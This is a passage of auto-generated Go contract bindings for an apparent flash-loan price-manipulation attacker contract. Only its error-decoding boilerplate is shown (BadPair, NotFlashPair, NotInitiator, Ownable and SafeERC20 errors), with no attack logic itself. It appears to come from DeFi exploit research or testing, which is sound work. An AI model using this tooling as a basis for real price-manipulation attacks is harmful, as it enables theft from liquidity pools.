	if bytes.Equal(raw[:4], priceManipulationAttacker.abi.Errors["NotInitiator"].ID.Bytes()[:4]) {
		return priceManipulationAttacker.UnpackNotInitiatorError(raw[4:])
	}
	if bytes.Equal(raw[:4], priceManipulationAttacker.abi.Errors["OwnableInvalidOwner"].ID.Bytes()[:4]) {
		return priceManipulationAttacker.UnpackOwnableInvalidOwnerError(raw[4:])
	}
	if bytes.Equal(raw[:4], priceManipulationAttacker.abi.Errors["OwnableUnauthorizedAccount"].ID.Bytes()[:4]) {
		return priceManipulationAttacker.UnpackOwnableUnauthorizedAccountError(raw[4:])
	}
	if bytes.Equal(raw[:4], priceManipulationAttacker.abi.Errors["SafeERC20FailedOperation"].ID.Bytes()[:4]) {
		return priceManipulationAttacker.UnpackSafeERC20FailedOperationError(raw[4:])
	}
	return nil, errors.New("Unknown error")
}

// PriceManipulationAttackerBadPair represents a BadPair error raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerBadPair struct {
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error BadPair()
func PriceManipulationAttackerBadPairErrorID() common.Hash {
	return common.HexToHash("0x2da573dadc0b95973cbec3870c1743007cb74eea8875bb405b0b2af73a5f2233")
}

// UnpackBadPairError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error BadPair()
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackBadPairError(raw []byte) (*PriceManipulationAttackerBadPair, error) {
	out := new(PriceManipulationAttackerBadPair)
	if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, "BadPair", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// PriceManipulationAttackerNotFlashPair represents a NotFlashPair error raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerNotFlashPair struct {
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error NotFlashPair()
func PriceManipulationAttackerNotFlashPairErrorID() common.Hash {
	return common.HexToHash("0x7981c8ac694469e184fb60b1b7227131764d23bc65ae17777640fefbae779b97")
}

// UnpackNotFlashPairError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error NotFlashPair()
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackNotFlashPairError(raw []byte) (*PriceManipulationAttackerNotFlashPair, error) {
	out := new(PriceManipulationAttackerNotFlashPair)
	if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, "NotFlashPair", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// PriceManipulationAttackerNotInitiator represents a NotInitiator error raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerNotInitiator struct {
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error NotInitiator()
func PriceManipulationAttackerNotInitiatorErrorID() common.Hash {
	return common.HexToHash("0x42b5e35a6103cb55ee027aea0c478565ce517376bbb059bd15d61d773aaa2268")
}

// UnpackNotInitiatorError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error NotInitiator()
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackNotInitiatorError(raw []byte) (*PriceManipulationAttackerNotInitiator, error) {
	out := new(PriceManipulationAttackerNotInitiator)
	if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, "NotInitiator", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// PriceManipulationAttackerOwnableInvalidOwner represents a OwnableInvalidOwner error raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerOwnableInvalidOwner struct {
	Owner common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error OwnableInvalidOwner(address owner)
func PriceManipulationAttackerOwnableInvalidOwnerErrorID() common.Hash {
	return common.HexToHash("0x1e4fbdf7f3ef8bcaa855599e3abf48b232380f183f08f6f813d9ffa5bd585188")
}

// UnpackOwnableInvalidOwnerError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error OwnableInvalidOwner(address owner)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackOwnableInvalidOwnerError(raw []byte) (*PriceManipulationAttackerOwnableInvalidOwner, error) {
	out := new(PriceManipulationAttackerOwnableInvalidOwner)
	if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, "OwnableInvalidOwner", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// PriceManipulationAttackerOwnableUnauthorizedAccount represents a OwnableUnauthorizedAccount error raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerOwnableUnauthorizedAccount struct {
	Account common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error OwnableUnauthorizedAccount(address account)
func PriceManipulationAttackerOwnableUnauthorizedAccountErrorID() common.Hash {
	return common.HexToHash("0x118cdaa7a341953d1887a2245fd6665d741c67c8c50581daa59e1d03373fa188")
}

// UnpackOwnableUnauthorizedAccountError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error OwnableUnauthorizedAccount(address account)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackOwnableUnauthorizedAccountError(raw []byte) (*PriceManipulationAttackerOwnableUnauthorizedAccount, error) {
	out := new(PriceManipulationAttackerOwnableUnauthorizedAccount)
	if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, "OwnableUnauthorizedAccount", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// PriceManipulationAttackerSafeERC20FailedOperation represents a SafeERC20FailedOperation error raised by the PriceManipulationAttacker contract.
type PriceManipulationAttackerSafeERC20FailedOperation struct {
	Token common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error SafeERC20FailedOperation(address token)
func PriceManipulationAttackerSafeERC20FailedOperationErrorID() common.Hash {
	return common.HexToHash("0x5274afe73c98b4749fc91ffae6b7b574e7842cb2144a159e9377a5f20b32edf9")
}

// UnpackSafeERC20FailedOperationError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error SafeERC20FailedOperation(address token)
func (priceManipulationAttacker *PriceManipulationAttacker) UnpackSafeERC20FailedOperationError(raw []byte) (*PriceManipulationAttackerSafeERC20FailedOperation, error) {
	out := new(PriceManipulationAttackerSafeERC20FailedOperation)
	if err := priceManipulationAttacker.abi.UnpackIntoInterface(out, "SafeERC20FailedOperation", raw); err != nil {
		return nil, err
	}
	return out, nil
}
